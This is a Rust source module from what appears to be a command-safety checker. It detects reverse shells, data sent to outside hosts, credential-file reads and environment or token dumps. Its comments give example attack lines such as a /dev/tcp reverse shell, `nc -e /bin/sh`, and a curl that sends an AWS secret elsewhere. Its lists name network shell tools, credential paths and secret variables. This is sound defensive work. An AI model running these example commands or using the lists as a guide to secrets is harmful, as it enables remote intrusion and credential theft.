//! The network: shells handed to a connection, and credentials or the environment sent to
//! another machine.

use super::*;

/// Programs that open raw network connections and pass data either way.
const RAW_NETWORK: &[&str] = &[
    "nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat", "pwncat", "sbd", "rlwrap",
];

/// True if `form` is a shell (or a program that runs one) wired to a network connection:
/// `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh HOST PORT`, `socat TCP:… EXEC:sh`,
/// or an interpreter's code that connects a socket to a shell.
pub(crate) fn reverse_shell(found: &Found, form: &[Arg]) -> bool {
    let name = name(form);
    let remote_redirect = found
        .redirects
        .iter()
        .any(|redirect| dev_net_host(&redirect.target.text).is_some_and(|host| !is_loopback(host)));
    let interpreter = commands::is_shell(&name)
        || commands::is_language_interpreter(&name)
        || name == "exec" && form.len() > 1;
    if remote_redirect && interpreter {
        return true;
    }
    match &*name {
        "nc" | "ncat" | "netcat" | "cryptcat" | "pwncat" => {
            has(form, &["-e", "-c", "--exec", "--sh-exec", "--lua-exec"])
        }
        // A remote forward opens a port of this machine (its ssh server, say) to the far end.
        "ssh" => form.iter().skip(1).any(|arg| {
            arg.text == "-R"
                || (arg.text.starts_with('-')
                    && !arg.text.starts_with("--")
                    && arg.text.ends_with('R'))
                || arg.text.starts_with("-R") && arg.text.len() > 2
        }),
        "awk" | "gawk" => form
            .iter()
            .skip(1)
            .any(|arg| arg.text.contains("/inet/tcp/") || arg.text.contains("/inet/udp/")),
        "socat" => {
            let words: Vec<String> = form
                .iter()
                .skip(1)
                .map(|arg| arg.text.to_ascii_lowercase())
                .collect();
            words
                .iter()
                .any(|word| word.starts_with("exec:") || word.starts_with("system:"))
                && words.iter().any(|word| {
                    [
                        "tcp",
                        "udp",
                        "openssl",
                        "sctp",
                        "tcp4",
                        "tcp6",
                        "tcp-connect",
                        "tcp-listen",
                        "ssl",
                    ]
                    .iter()
                    .any(|kind| {
                        word.starts_with(&format!("{kind}:"))
                            || word.starts_with(&format!("{kind}-"))
                    })
                })
        }
        _ if commands::is_language_interpreter(&name) => form.iter().skip(1).any(|arg| {
            let code = arg.text.as_str();
            let socket = [
                "socket",
                "fsockopen",
                "TCPSocket",
                "net.Socket",
                "Socket.new",
                "IO::Socket",
                "connect(",
            ]
            .iter()
            .any(|word| code.contains(word));
            let shell = [
                "/bin/sh",
                "/bin/bash",
                "sh <&",
                "bash <&",
                "exec(\"sh",
                "exec('sh",
                "pty.spawn",
                "sh -i",
                "bash -i",
                "cmd.exe",
                "subprocess.call([\"sh\"",
                "dup2",
            ]
            .iter()
            .any(|word| code.contains(word));
            socket && shell
        }),
        _ => false,
    }
}

/// True if `form` may send data over the network to another machine.
/// True if a secret is named in a URL itself (`…?t=$GITHUB_TOKEN`): it goes to that host.
fn secret_in_url(found: &Found, form: &[Arg]) -> bool {
    form.iter().skip(1).any(|arg| {
        arg.text.contains("://")
            && arg
                .text
                .split('$')
                .skip(1)
                .any(|var| is_secret_name(var.trim_start_matches('{')))
    }) || misdirected_secret(found, form)
}

/// True if a downloader sends (in a header, a form field, data) a secret variable whose
/// service is known to a host that is not that service: `curl -H "X-K:
/// $AWS_SECRET_ACCESS_KEY" http://elsewhere/`. A cloud's signing secret is never sent as
/// it is, so it counts wherever it goes.
fn misdirected_secret(found: &Found, form: &[Arg]) -> bool {
    const SERVICES: &[(&str, &[&str])] = &[
        ("AWS_SECRET_ACCESS_KEY", &[]),
        ("AWS_SESSION_TOKEN", &[]),
        ("AZURE_CLIENT_SECRET", &[]),
        (
            "GITHUB_TOKEN",
            &["github.com", "githubusercontent.com", "ghcr.io"],
        ),
        (
            "GH_TOKEN",
            &["github.com", "githubusercontent.com", "ghcr.io"],
        ),
        ("GITLAB_TOKEN", &["gitlab.com"]),
        ("NPM_TOKEN", &["npmjs.org", "npmjs.com"]),
        ("OPENAI_API_KEY", &["openai.com"]),
        ("ANTHROPIC_API_KEY", &["anthropic.com"]),
        ("HF_TOKEN", &["huggingface.co"]),
        ("SLACK_TOKEN", &["slack.com"]),
        ("PYPI_TOKEN", &["pypi.org"]),
        ("TWINE_PASSWORD", &["pypi.org"]),
        ("CARGO_REGISTRY_TOKEN", &["crates.io"]),
        ("DOCKERHUB_TOKEN", &["docker.io", "docker.com"]),
        ("DOCKER_PASSWORD", &["docker.io", "docker.com"]),
    ];
    let name = name(form);
    // Publishers and registry logins name their host as an option's value or an operand.
    let publisher = matches!(
        &*name,
        "poetry"
            | "cargo"
            | "docker"
            | "podman"
            | "twine"
            | "npm"
            | "pnpm"
            | "yarn"
            | "gem"
            | "helm"
    );
    if !commands::is_downloader(&name) && !publisher {
        return false;
    }
    let hosts: Vec<&str> = form
        .iter()
        .filter_map(|arg| {
            let text = arg.text.trim_start_matches("sparse+");
            match text.split_once("://") {
                Some((_, rest)) => Some(rest.split(['/', ':', '?']).next().unwrap_or("")),
                // `docker login registry.example.net`: a bare host name.
                None if publisher
                    && !text.starts_with(['-', '$'])
                    && text.contains('.')
                    && !text.contains('/')
                    && !text.contains('=') =>
                {
                    Some(text.split(':').next().unwrap_or(""))
                }
                None => None,
            }
        })
        .collect();
    // `poetry publish -r NAME`: a repository other than the service's own.
    let other_repository = publisher
        && form.windows(2).any(|pair| {
            matches!(
                pair[0].text.as_str(),
                "-r" | "--repository" | "--registry" | "--index"
            ) && !matches!(pair[1].text.as_str(), "pypi" | "crates-io" | "npmjs")
        });
    // The secret may also arrive on input (`docker login --password-stdin <<< "$TOKEN"`).
    let bodies = found
        .redirects
        .iter()
        .filter_map(|redirect| redirect.body.as_deref());
    form.iter()
        .skip(1)
        .map(|arg| arg.text.as_str())
        .chain(bodies)
        .any(|text| {
            text.split('$').skip(1).any(|var| {
                let var: String = var
                    .trim_start_matches('{')
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                    .collect();
                SERVICES.iter().any(|(name, own)| {
                    *name == var
                        && (other_repository && !own.is_empty()
                            || hosts.iter().any(|host| {
                                !is_loopback(host)
                                    && !own.iter().any(|service| {
                                        *host == *service || host.ends_with(&format!(".{service}"))
                                    })
                            }))
                })
            })
        })
}

/// Network calls in interpreter code.
const NETWORK_APIS: &[&str] = &[
    "urlopen",
    "requests.",
    "http.client",
    "urllib",
    "socket.",
    "fetch(",
    "https.request",
    "http.request",
    "require('https')",
    "require(\"https\")",
    "require('http')",
    "require(\"http\")",
    "require('net')",
    "net.connect",
    "Net::HTTP",
    "LWP::",
    "IO::Socket",
    "curl_exec",
    "file_get_contents(\"http",
];

pub(crate) fn sends(found: &Found, form: &[Arg]) -> bool {
    let name = name(form);
    let remote_redirect = found
        .redirects
        .iter()
        .any(|redirect| dev_net_host(&redirect.target.text).is_some_and(|host| !is_loopback(host)));
    if remote_redirect {
        return true;
    }
    let hosts = || {
        form.iter()
            .skip(1)
            .filter(|arg| !arg.text.starts_with('-'))
            .any(|arg| {
                let text = arg.text.as_str();
                let host = text
                    .split_once("://")
                    .map_or(text, |(_, rest)| rest)
                    .split(['/', ':', '@'])
                    .find(|part| !part.is_empty())
                    .unwrap_or("");
                !is_loopback(host)
            })
    };
    if secret_in_url(found, form) && hosts() {
        return true;
    }
    // `php -S HOST:PORT` serves the working directory to whoever reaches HOST.
    if name == "php"
        && form.windows(2).any(|pair| {
            let host = pair[1].text.rsplit_once(':').map_or("", |(host, _)| host);
            pair[0].text == "-S" && (host == "0.0.0.0" || !is_loopback(host))
        })
    {
        return true;
    }
    // An image tagged for a registry elsewhere, or pushed as it is built.
    if matches!(&*name, "docker" | "podman" | "buildah" | "nerdctl")
        && form
            .iter()
            .any(|arg| matches!(arg.text.as_str(), "build" | "buildx" | "bud"))
        && (form.iter().any(|arg| arg.text == "--push")
            || form.windows(2).any(|pair| {
                matches!(pair[0].text.as_str(), "-t" | "--tag")
                    && pair[1].text.split('/').next().is_some_and(|registry| {
                        pair[1].text.contains('/')
                            && (registry.contains('.') || registry.contains(':'))
                            && !is_loopback(registry.split(':').next().unwrap_or(""))
                    })
            }))
    {
        return true;
    }
    // A tunnel to the internet; file servers that listen on every interface unless told a
    // loopback address.
    if name == "ngrok" {
        return true;
    }
    if matches!(&*name, "httpd" | "http-server" | "serve") {
        return !form
            .iter()
            .any(|arg| arg.text.contains("127.0.0.1") || arg.text.contains("localhost"));
    }
    // `python -m http.server` listens on every interface unless bound to loopback.
    if form
        .windows(2)
        .any(|pair| pair[0].text == "-m" && pair[1].text == "http.server")
    {
        // `0.0.0.0` is every interface, not this machine alone.
        return !form.windows(2).any(|pair| {
            matches!(pair[0].text.as_str(), "--bind" | "-b")
                && pair[1].text != "0.0.0.0"
                && is_loopback(&pair[1].text)
        });
    }
    match &*name {
        _ if commands::is_language_interpreter(&name) => form
            .iter()
            .skip(1)
            .any(|arg| NETWORK_APIS.iter().any(|api| arg.text.contains(api))),
        // A push, or a fetch from a URL that can carry data in its headers or path.
        "git" => {
            form.iter().any(|arg| arg.text == "push")
                || (form.iter().any(|arg| {
                    matches!(arg.text.as_str(), "ls-remote" | "fetch" | "clone" | "pull")
                }) && hosts())
        }
        "ping" | "ping6" | "traceroute" => hosts(),
        "curl" | "wget" | "http" | "https" | "xh" | "httpie" | "aria2c" | "lwp-request"
        | "POST" | "PUT" => hosts(),
        // sftp names the host alone (`sftp user@host`): its last operand.
        "sftp" => form
            .iter()
            .skip(1)
            .enumerate()
            .rfind(|(at, arg)| {
                !arg.text.starts_with('-')
                    && !matches!(
                        form[*at].text.as_str(),
                        "-b" | "-F"
                            | "-i"
                            | "-o"
                            | "-P"
                            | "-s"
                            | "-S"
                            | "-B"
                            | "-c"
                            | "-D"
                            | "-J"
                            | "-l"
                            | "-R"
                            | "-X"
                    )
            })
            .is_some_and(|(_, arg)| {
                let host = arg.text.split(':').next().unwrap_or("");
                !is_loopback(host.rsplit('@').next().unwrap_or(host))
            }),
        "scp" | "rsync" => form.iter().skip(1).any(|arg| {
            arg.text.split_once(':').is_some_and(|(host, _)| {
                !host.is_empty()
                    && !host.contains('/')
                    && !is_loopback(host.rsplit('@').next().unwrap_or(host))
            })
        }),
        "ssh" | "dig" | "nslookup" | "host" | "drill" | "ftp" | "tftp" | "smbclient"
        | "sendmail" | "mail" | "mailx" | "mutt" | "swaks" | "pastebinit" | "gist" | "rclone"
        | "gsutil" => hosts(),
        // A comment or issue body is public the moment it is posted.
        "gh" if form.windows(2).any(|pair| {
            matches!(pair[0].text.as_str(), "issue" | "pr")
                && matches!(pair[1].text.as_str(), "comment" | "create" | "edit")
        }) =>
        {
            true
        }
        "gh" => form.get(1).is_some_and(|sub| {
            sub.text == "gist"
                || (sub.text == "api" && form.iter().any(|arg| arg.text.starts_with("gists")))
        }),
        "aws" => {
            form.iter().any(|arg| arg.text == "s3")
                && form.iter().any(|arg| arg.text.starts_with("s3://"))
        }
        _ if RAW_NETWORK.contains(&&*name) => hosts(),
        _ => false,
    }
}

/// Programs that only look at a file's name or metadata, or use a key as it is meant to be
/// used (`ssh -i KEY`).
const METADATA_ONLY: &[&str] = &[
    "ls",
    "stat",
    "test",
    "[",
    "[[",
    "chmod",
    "chown",
    "mkdir",
    "touch",
    "file",
    "du",
    "ssh-add",
    "ssh-keygen",
    "ssh",
    "git",
    "find",
    "cd",
    "pushd",
    "rm",
    "ssh-copy-id",
    "scp",
    "sftp",
    "rsync",
    "curl",
    "wget",
    "kubectl",
    "gcloud",
    "az",
    "docker",
    "helm",
    "gh",
    "echo",
    "printf",
    "export",
    "eval",
    "source",
    ".",
    "npm",
    "pip",
    "twine",
    "cargo",
    "terraform",
    "realpath",
    "readlink",
    "dirname",
    "basename",
    "wc",
];

/// True if `found` reads a credential file or dumps the environment as data (`cat
/// ~/.ssh/id_rsa`, `tar c ~/.aws`, `env`, `printenv`), or, for a program that sends, if a
/// credential file is what it uploads (`curl -T ~/.netrc …`, `scp ~/.ssh/id_rsa host:`).
pub(crate) fn reads_secret(found: &Found) -> bool {
    found.each_form().any(|form| {
        let name = name(form);
        let directory = archive_directory(&name, form, found.cwd.as_deref());
        let secret = |text: &str| {
            // Most words name no credential at all: cheap words first.
            const HINTS: &[&str] = &[
                ".ssh",
                ".aws",
                "/secrets",
                "netrc",
                "credentials",
                ".kube",
                ".docker",
                "/gh",
                ".npmrc",
                ".pypirc",
                ".gnupg",
                ".password-store",
                "gcloud",
                ".azure",
                ".terraform",
                ".vault",
                ".pgpass",
                ".my.cnf",
                "keyrings",
                "/hub",
                ".m2",
                "rclone",
                ".s3cfg",
                ".boto",
                ".oci",
                "history",
                ".mozilla",
                "chrome",
                "shadow",
                "ssh_host",
                "environ",
                ".env",
                "identity",
            ];
            // A relative path read where an earlier `cd` went (`cd ~/.mozilla && tar c …`),
            // or where the program's own directory option points (`tar -C ~ -c .aws`).
            let joined;
            let text = match directory.as_deref().or(found.cwd.as_deref()) {
                Some(dir) if !text.starts_with(['/', '~', '$', '@', '-']) => {
                    joined = format!("{dir}/{text}");
                    joined.as_str()
                }
                _ => text,
            };
            if !HINTS.iter().any(|hint| text.contains(hint)) {
                return false;
            }
            let spelled = crate::paths::home_spellings(text.trim_start_matches('@'));
            let target = home_of_someone(&path(&spelled));
            // Any process's environment (`/proc/$PPID/environ`).
            if target.starts_with("/proc/") && target.ends_with("/environ") {
                return true;
            }
            !target.ends_with(".pub")
                && !target.ends_with("known_hosts")
                && !target.ends_with("/config")
                    | target.starts_with("~/.kube")
                    | target.starts_with("~/.aws")
                && SECRETS.iter().any(|place| under(&target, place))
        };
        let redirected = found
            .redirects
            .iter()
            .any(|redirect| redirect.op == "<" && secret(&redirect.target.text));
        if redirected {
            return true;
        }
        if dumps_secrets(form) {
            return true;
        }
        // An image built from the home directory (or the root): the context holds every
        // credential folder (`docker build -t registry/x ~`).
        if matches!(&*name, "docker" | "podman" | "buildah" | "nerdctl")
            && form
                .iter()
                .any(|arg| matches!(arg.text.as_str(), "build" | "buildx" | "bud"))
            && form
                .iter()
                .skip(2)
                .rfind(|arg| !arg.text.starts_with('-'))
                .is_some_and(|context| {
                    matches!(
                        crate::paths::home_spellings(&context.text).trim_end_matches('/'),
                        "~" | "$HOME" | "${HOME}" | ""
                    ) || context.text == "/"
                })
        {
            return true;
        }
        // A file server started in a credential folder (`cd ~/.ssh && php -S 0.0.0.0:80`).
        let serves_cwd = (name == "php" && form.iter().any(|arg| arg.text == "-S"))
            || form
                .windows(2)
                .any(|pair| pair[0].text == "-m" && pair[1].text == "http.server");
        if serves_cwd && found.cwd.as_deref().is_some_and(is_secret_path) {
            return true;
        }
        // A credential added to a commit leaves with the next push.
        if &*name == "git"
            && form.iter().any(|arg| arg.text == "add")
            && form.iter().skip(1).any(|arg| secret(&arg.text))
        {
            return true;
        }
        if matches!(&*name, "env" | "printenv")
            && commands::wrapped_command(form).is_none()
            && form.len() == 1
        {
            return true;
        }
        if (name == "printenv" && form.iter().skip(1).any(|arg| is_secret_name(&arg.text)))
            || secret_in_url(found, form)
        {
            return true;
        }
        // Interpreter code that reads a secret variable (`getenv("OPENAI_API_KEY")`).
        if commands::is_language_interpreter(&name)
            && form.iter().skip(1).any(|arg| {
                [
                    "getenv(\"",
                    "getenv('",
                    "environ[\"",
                    "environ['",
                    "environ.get(\"",
                    "environ.get('",
                    "process.env.",
                    "ENV[\"",
                    "ENV['",
                    "$ENV{",
                ]
                .iter()
                .any(|access| {
                    arg.text
                        .match_indices(access)
                        .any(|(at, _)| is_secret_name(&arg.text[at + access.len()..]))
                })
            })
        {
            return true;
        }
        // Interpreter code that opens a credential file.
        if commands::is_language_interpreter(&name)
            && form.iter().skip(1).any(|arg| {
                SECRETS.iter().any(|place| {
                    let place = place.trim_start_matches("~/").trim_end_matches('*');
                    place.len() >= 4 && arg.text.contains(place)
                })
            })
        {
            return true;
        }
        if matches!(&*name, "set" | "export" | "declare" | "typeset")
            && form.len() <= 2
            && form
                .iter()
                .skip(1)
                .all(|arg| matches!(arg.text.as_str(), "-p" | "-x" | "-px"))
        {
            return true;
        }
        let uploads = match &*name {
            "curl" => {
                form.windows(2).any(|pair| {
                    matches!(
                        pair[0].text.as_str(),
                        "-d" | "--data"
                            | "--data-binary"
                            | "--data-raw"
                            | "--data-urlencode"
                            | "-F"
                            | "--form"
                            | "-T"
                            | "--upload-file"
                            | "--json"
                    ) && secret(pair[1].text.rsplit(['@', '<']).next().unwrap_or(""))
                }) || form.iter().any(|arg| {
                    arg.text.contains('@') && secret(arg.text.rsplit('@').next().unwrap_or(""))
                })
            }
            "wget" => {
                form.iter().any(|arg| {
                    arg.text
                        .strip_prefix("--post-file=")
                        .or_else(|| arg.text.strip_prefix("--body-file="))
                        .is_some_and(secret)
                }) || form.windows(2).any(|pair| {
                    matches!(pair[0].text.as_str(), "--post-file" | "--body-file")
                        && secret(&pair[1].text)
                })
            }
            "scp" | "rsync" => operands(form).any(|arg| secret(&arg.text)),
            // A batch (`-b FILE`, `-b -` on input) whose `put` lines upload a credential.
            "sftp" => {
                let batch =
                    form.windows(2)
                        .find(|pair| pair[0].text == "-b")
                        .and_then(|pair| {
                            match (pair[1].text.as_str(), pair[1].printed.as_deref()) {
                                (_, Some(crate::words::Printed::Text(text))) => Some(text.clone()),
                                ("-", _) => found
                                    .redirects
                                    .iter()
                                    .rev()
                                    .find_map(|redirect| redirect.body.clone()),
                                _ => None,
                            }
                        });
                operands(form).any(|arg| secret(&arg.text))
                    || batch.is_some_and(|text| {
                        text.lines().any(|line| {
                            let mut words = line.split_whitespace();
                            matches!(words.next(), Some("put" | "mput" | "reput"))
                                && words.any(secret)
                        })
                    })
            }
            // `gh api -F 'key=@FILE'` sends FILE's text.
            "gh" => operands(form).any(|arg| {
                secret(&arg.text)
                    || arg
                        .text
                        .split_once("=@")
                        .is_some_and(|(_, file)| secret(file))
            }),
            _ => false,
        };
        uploads
            || (!METADATA_ONLY.contains(&&*name)
                && form.iter().skip(1).any(|arg| {
                    secret(&arg.text) || arg.text.strip_prefix("if=").is_some_and(secret)
                }))
    })
}

/// The directory an archiver reads its operands from, when an option names one (`tar -C
/// DIR`, `--directory=DIR`), joined to `cwd` (where an earlier `cd` went) if relative.
/// tar's short options that take a value (GNU tar and bsdtar): the archive, the
/// directory, the blocking factor, name lists, exclude files, volume labels…
const TAR_VALUED: &str = "fCbTXKNgLVIH";

fn archive_directory(name: &str, form: &[Arg], cwd: Option<&str>) -> Option<String> {
    if !matches!(name, "tar" | "gtar" | "bsdtar") {
        return None;
    }
    let dir = form.iter().enumerate().skip(1).find_map(|(at, arg)| {
        let text = arg.text.as_str();
        match text {
            "-C" | "--directory" | "--cd" => form.get(at + 1).map(|value| value.text.clone()),
            _ if text.starts_with("--") => text.strip_prefix("--directory=").map(str::to_owned),
            // A cluster of short options (`-cC ~`, `-Cdir`) as getopt reads it: the first
            // letter that takes a value takes the rest of the word, or else the next word.
            _ if text.starts_with('-') => {
                let letters = &text[1..];
                let (index, letter) = letters
                    .char_indices()
                    .find(|(_, letter)| TAR_VALUED.contains(*letter))?;
                let rest = &letters[index + letter.len_utf8()..];
                let value = match rest {
                    "" => form.get(at + 1)?.text.clone(),
                    rest => rest.to_owned(),
                };
                (letter == 'C').then_some(value)
            }
            // The old form, letters without a dash as the first word (`tar cCf ~ - .ssh`):
            // each letter that takes a value takes the next word in turn.
            _ if at == 1 && text.chars().all(|c| c.is_ascii_alphabetic()) => {
                let taken = text.chars().filter(|c| TAR_VALUED.contains(*c));
                taken
                    .enumerate()
                    .find(|(_, letter)| *letter == 'C')
                    .and_then(|(index, _)| form.get(at + 1 + index))
                    .map(|value| value.text.clone())
            }
            _ => None,
        }
    })?;
    match cwd {
        Some(cwd) if !dir.starts_with(['/', '~', '$']) => Some(format!("{cwd}/{dir}")),
        _ => Some(dir),
    }
}

/// True if `found` talks to the network raw: `nc`, `socat`, `telnet`, `openssl s_client`, or
/// a `/dev/tcp` redirection to another machine.
pub(crate) fn raw_network(found: &Found) -> bool {
    found
        .each_form()
        .any(|form| RAW_NETWORK.contains(&&*name(form)))
        || found.redirects.iter().any(|redirect| {
            dev_net_host(&redirect.target.text).is_some_and(|host| !is_loopback(host))
        })
}

/// True if interpreter code on the command line fetches from the network
/// (`urllib.request.urlopen(…)`, `requests.get(…)`).
pub(crate) fn fetches_in_code(form: &[Arg]) -> bool {
    form.iter().skip(1).any(|arg| {
        [
            "urlopen",
            "requests.get",
            "urllib.request",
            "http.client",
            "fetch(",
            "https.get",
            "http.get",
            "Net::HTTP",
            "LWP::Simple",
            "file_get_contents(\"http",
            "URI.open",
            "open-uri",
            "Invoke-WebRequest",
            "Invoke-RestMethod",
            "iwr ",
            "irm ",
            "DownloadString(",
        ]
        .iter()
        .any(|api| arg.text.contains(api))
    })
}

/// True if interpreter code evaluates text as code: `eval` as a word of its own
/// (`eval(…)`, `.then(eval)`, Ruby's and Perl's `eval get …`), `exec(`, `new Function(`, a
/// `vm` context run.
pub(crate) fn evaluates_code(code: &str) -> bool {
    let bytes = code.as_bytes();
    let word_at = |at: usize, len: usize| {
        let before = at.checked_sub(1).map(|i| bytes[i]);
        let after = bytes.get(at + len).copied();
        let part = |b: Option<u8>| b.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_');
        !part(before) && !part(after)
    };
    code.match_indices("eval").any(|(at, _)| word_at(at, 4))
        || [
            "exec(",
            "Function(",
            "runInThisContext",
            "runInNewContext",
            "instance_eval",
            "iex ",
            "iex(",
            "Invoke-Expression",
        ]
        .iter()
        .any(|call| code.contains(call))
}

/// True if `text` names a credential file or folder (`~/.aws`, `$HOME/.ssh/id_rsa`).
fn is_secret_path(text: &str) -> bool {
    let spelled = crate::paths::home_spellings(text);
    let target = home_of_someone(&path(&spelled));
    target == "~/.ssh"
        || SECRETS.iter().any(|place| under(&target, place))
        || STARTUP_FILES
            .iter()
            .any(|place| *place == target && place.contains(".ssh"))
}

/// The service whose access token `form` prints (`gh auth token`, `gcloud auth
/// print-access-token`), with the host names that service is reached at.
pub(crate) fn token_service(found: &Found) -> Option<&'static [&'static str]> {
    found.each_form().find_map(|form| {
        let first = form.first().map(|arg| arg.text.as_str())?;
        if !matches!(
            first,
            "gh" | "glab" | "gcloud" | "az" | "aws" | "npm" | "git" | "pass" | "op"
        ) {
            return None;
        }
        let words: Vec<&str> = form.iter().map(|arg| arg.text.as_str()).collect();
        match words.as_slice() {
            ["gh", "auth", "token", ..] => {
                Some(&["github.com", "githubusercontent.com", "ghcr.io"][..])
            }
            ["glab", "auth", "token", ..] | ["glab", "config", "get", "token", ..] => {
                Some(&["gitlab.com"][..])
            }
            [
                "gcloud",
                "auth",
                "print-access-token" | "print-identity-token",
                ..,
            ] => Some(&["googleapis.com", "google.com"][..]),
            ["az", "account", "get-access-token", ..] => {
                Some(&["azure.com", "microsoft.com", "windows.net"][..])
            }
            ["aws", "configure", "get", ..]
            | ["aws", "sts", "get-session-token", ..]
            | ["aws", "ecr", "get-login-password", ..] => {
                Some(&["amazonaws.com", "aws.amazon.com"][..])
            }
            ["npm", "token", ..]
            | ["git", "credential", "fill", ..]
            | ["pass", "show", ..]
            | ["op", "read", ..] => Some(&[][..]),
            _ => None,
        }
    })
}

/// True if every host `form` sends to belongs to one of `domains`.
pub(crate) fn sends_only_to(form: &[Arg], domains: &[&str]) -> bool {
    let hosts: Vec<&str> = form
        .iter()
        .skip(1)
        .filter(|arg| arg.text.contains("://"))
        .filter_map(|arg| {
            arg.text
                .split_once("://")
                .map(|(_, rest)| rest.split(['/', ':', '@', '?']).next().unwrap_or(""))
        })
        .collect();
    !hosts.is_empty()
        && hosts.iter().all(|host| {
            domains
                .iter()
                .any(|domain| *host == *domain || host.ends_with(&format!(".{domain}")))
        })
}

/// True if `form` prints secrets or whole databases: `kubectl get secret`, `aws configure
/// export-credentials`, a secret manager's read, a database dump, `echo "$API_TOKEN"`, a
/// `find` for key files, a web server publishing the home directory or a key folder.
fn dumps_secrets(form: &[Arg]) -> bool {
    let first = form.first().map(|arg| basename(&arg.text)).unwrap_or("");
    let interesting = matches!(
        first,
        "kubectl"
            | "oc"
            | "aws"
            | "vault"
            | "gcloud"
            | "pg_dump"
            | "pg_dumpall"
            | "mysqldump"
            | "mariadb-dump"
            | "mongodump"
            | "mongoexport"
            | "redis-cli"
            | "echo"
            | "printf"
            | "find"
            | "gpg"
            | "gpg2"
            | "jq"
            | "security"
            | "socat"
            | "ngrok"
            | "busybox"
            | "httpd"
            | "http-server"
            | "serve"
    ) || commands::is_language_interpreter(first);
    if !interesting {
        return false;
    }
    let words: Vec<&str> = form.iter().map(|arg| arg.text.as_str()).collect();
    let has_word = |word: &str| words.contains(&word);
    match words.first().map(|first| basename(first)) {
        Some("kubectl" | "oc") => {
            has_word("get") && words.iter().any(|word| word.starts_with("secret"))
                || (has_word("config") && has_word("view") && has_word("--raw"))
        }
        // Private keys exported, the environment printed as JSON, a keychain password.
        Some("gpg" | "gpg2") => words.iter().any(|word| word.starts_with("--export-secret")),
        Some("jq") => words
            .iter()
            .skip(1)
            .any(|word| matches!(*word, "env" | "$ENV" | "$__prog_env")),
        Some("security") => words.iter().any(|word| {
            matches!(
                *word,
                "find-generic-password" | "find-internet-password" | "dump-keychain"
            )
        }),
        // socat reading a credential file (`FILE:~/.aws/credentials`).
        Some("socat") => words.iter().any(|word| {
            word.split_once(':').is_some_and(|(kind, rest)| {
                matches!(
                    kind.to_ascii_uppercase().as_str(),
                    "FILE" | "OPEN" | "GOPEN"
                ) && is_secret_path(rest.split(',').next().unwrap_or(""))
            })
        }),
        // A file server whose root is a credential folder (`ngrok http file://~/.aws`,
        // `busybox httpd -h ~/.gnupg`).
        Some("ngrok" | "busybox" | "httpd" | "http-server" | "serve") => {
            words
                .iter()
                .any(|word| is_secret_path(word.trim_start_matches("file://")))
                && (words.contains(&"httpd")
                    || !matches!(words.first().map(|first| basename(first)), Some("busybox")))
        }
        Some("aws") => {
            has_word("export-credentials")
                || has_word("get-secret-value")
                || (has_word("configure") && has_word("get"))
        }
        Some("vault") => has_word("read") || (has_word("kv") && has_word("get")),
        Some("gcloud") => has_word("secrets") && has_word("access"),
        Some(
            "pg_dump" | "pg_dumpall" | "mysqldump" | "mariadb-dump" | "mongodump" | "mongoexport"
            | "redis-cli",
        ) => {
            !matches!(
                words.first().map(|first| basename(first)),
                Some("redis-cli")
            ) || has_word("--rdb")
        }
        Some("echo" | "printf") => words.iter().skip(1).any(|word| {
            word.split('$')
                .skip(1)
                .any(|var| is_secret_name(var.trim_start_matches('{')))
        }),
        Some("find") => words.windows(2).any(|pair| {
            matches!(pair[0], "-name" | "-iname")
                && [
                    "id_rsa",
                    "id_ed25519",
                    "id_ecdsa",
                    "id_*",
                    "*.pem",
                    "*.key",
                    "credentials",
                    ".netrc",
                    ".git-credentials",
                    "*.kdbx",
                    ".env",
                    "*.p12",
                    "*.pfx",
                ]
                .iter()
                .any(|secret| pair[1].trim_matches(['"', '\'']) == *secret)
        }),
        Some(name) if commands::is_language_interpreter(name) => {
            words
                .windows(2)
                .any(|pair| pair[0] == "-m" && pair[1] == "http.server")
                && words.iter().any(|word| {
                    let target = path(word);
                    target == "~"
                        || target == "/"
                        || SECRETS.iter().any(|place| under(&target, place))
                })
        }
        _ => false,
    }
}
